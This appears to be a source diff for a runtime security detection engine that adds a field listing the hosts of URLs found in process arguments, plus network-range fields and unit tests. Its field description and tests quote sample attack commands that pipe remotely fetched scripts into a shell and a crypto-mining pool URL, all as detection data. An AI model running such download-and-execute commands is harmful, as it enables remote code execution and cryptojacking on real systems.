@@ -69,6 +69,7 @@ enum F {
     ProcExepath,
     ProcCmdline,
     ProcArgs,
+    ProcArgHosts,
     ProcCwd,
     ProcPid,
     ProcPpid,
@@ -156,6 +157,7 @@ const FIELDS: &[(&str, F, Arg, &str)] = &[
     ("proc.exepath", F::ProcExepath, Arg::None, "path of the executable"),
     ("proc.cmdline", F::ProcCmdline, Arg::None, "name and arguments"),
     ("proc.args", F::ProcArgs, Arg::None, "arguments (argv[1..]) joined by spaces"),
+    ("proc.arg_hosts", F::ProcArgHosts, Arg::None, "hosts of the URLs in the arguments (`curl -fsSL http://bad.example/x.sh`, `sh -c 'wget -qO- https://1.2.3.4:8443/m | sh'`, `stratum+tcp://pool.example:3333` → bad.example, 1.2.3.4, pool.example), lower-cased (list; Palisade extension)"),
     ("proc.cwd", F::ProcCwd, Arg::None, "working directory at exec (within its mount)"),
     ("proc.pid", F::ProcPid, Arg::None, "process id"),
     ("proc.tid", F::ProcTid, Arg::None, "thread id"),
@@ -192,6 +194,11 @@ const FIELDS: &[(&str, F, Arg, &str)] = &[
     ("fd.cport", F::FdCport, Arg::None, "client port of an accepted connection"),
     ("fd.lip", F::FdLip, Arg::None, "local address of an accepted connection"),
     ("fd.lport", F::FdLport, Arg::None, "local port of an accepted connection"),
+    ("fd.net", F::FdIp, Arg::None, "fd.ip, for network values (`fd.net = 10.0.0.0/8`; CIDR values match by containment with any address field)"),
+    ("fd.snet", F::FdSip, Arg::None, "fd.sip, for network values (`fd.snet in (169.254.169.254/32, fd00:ec2::254/128)`)"),
+    ("fd.rnet", F::FdRip, Arg::None, "fd.rip, for network values"),
+    ("fd.cnet", F::FdCip, Arg::None, "fd.cip, for network values"),
+    ("fd.lnet", F::FdLip, Arg::None, "fd.lip, for network values"),
     ("container.id", F::ContainerId, Arg::None, "container id, 12 characters (`host` for host processes)"),
     ("container.full_id", F::ContainerFullId, Arg::None, "container id, 64 characters"),
     ("container.name", F::ContainerName, Arg::None, "container name (`host` for host processes)"),
@@ -522,6 +529,48 @@ fn ptrace_request(r: i64) -> Cow<'static, str> {
     })
 }
 
+/// The hosts of the `scheme://[user@]host[:port]/...` URLs in one argument (which may be a
+/// whole shell command line), lower-cased; IPv6 hosts without their brackets.
+pub fn url_hosts(arg: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    let mut rest = arg;
+    while let Some(i) = rest.find("://") {
+        let after = &rest[i + 3..];
+        let end = after
+            .find(|c: char| {
+                c.is_whitespace()
+                    || matches!(
+                        c,
+                        '/' | '?'
+                            | '#'
+                            | '"'
+                            | '\''
+                            | ';'
+                            | '|'
+                            | '&'
+                            | ')'
+                            | '('
+                            | '`'
+                            | '<'
+                            | '>'
+                    )
+            })
+            .unwrap_or(after.len());
+        let authority = &after[..end];
+        let hostport = authority.rsplit('@').next().unwrap_or_default();
+        let host = if let Some(v6) = hostport.strip_prefix('[') {
+            v6.split(']').next().unwrap_or_default()
+        } else {
+            hostport.split(':').next().unwrap_or_default()
+        };
+        if !host.is_empty() && host.len() <= 253 {
+            out.push(host.to_ascii_lowercase());
+        }
+        rest = &after[end..];
+    }
+    out
+}
+
 fn s(v: &str) -> Values<'_> {
     Values::One(Value::Str(Cow::Borrowed(v)))
 }
@@ -680,6 +729,16 @@ impl Event for NodeRecord<'_> {
                 owned(out)
             }
             F::ProcArgs => owned(self.args.get(1..).unwrap_or_default().join(" ")),
+            F::ProcArgHosts => {
+                let mut hosts: Vec<Value<'_>> = Vec::new();
+                for h in self.args.iter().skip(1).flat_map(|a| url_hosts(a)) {
+                    let v = Value::Str(Cow::Owned(h));
+                    if !hosts.contains(&v) && hosts.len() < 64 {
+                        hosts.push(v);
+                    }
+                }
+                Values::Many(hosts)
+            }
             F::ProcCwd => self.cwd.map_or(Values::Missing, s),
             F::ProcPid => int(e.pid.into()),
             F::ProcTid => int(e.tid.into()),
@@ -860,6 +919,28 @@ impl Event for NodeRecord<'_> {
 
     fn index_key(&self) -> Option<&str> {
         Some(evt_type(self.event))
+    }
+}
+
+#[cfg(test)]
+mod url_host_tests {
+    use super::url_hosts;
+
+    #[test]
+    fn hosts_of_urls_in_arguments() {
+        assert_eq!(
+            url_hosts(
+                "curl -fsSL http://Bad.Example/x.sh | sh; wget -qO- https://user:pw@1.2.3.4:8443/m"
+            ),
+            ["bad.example", "1.2.3.4"]
+        );
+        assert_eq!(
+            url_hosts("stratum+tcp://pool.example:3333"),
+            ["pool.example"]
+        );
+        assert_eq!(url_hosts("http://[2001:db8::1]:80/a"), ["2001:db8::1"]);
+        assert!(url_hosts("no url here :// ").is_empty());
+        assert!(url_hosts("-o /tmp/x").is_empty());
     }
 }
 
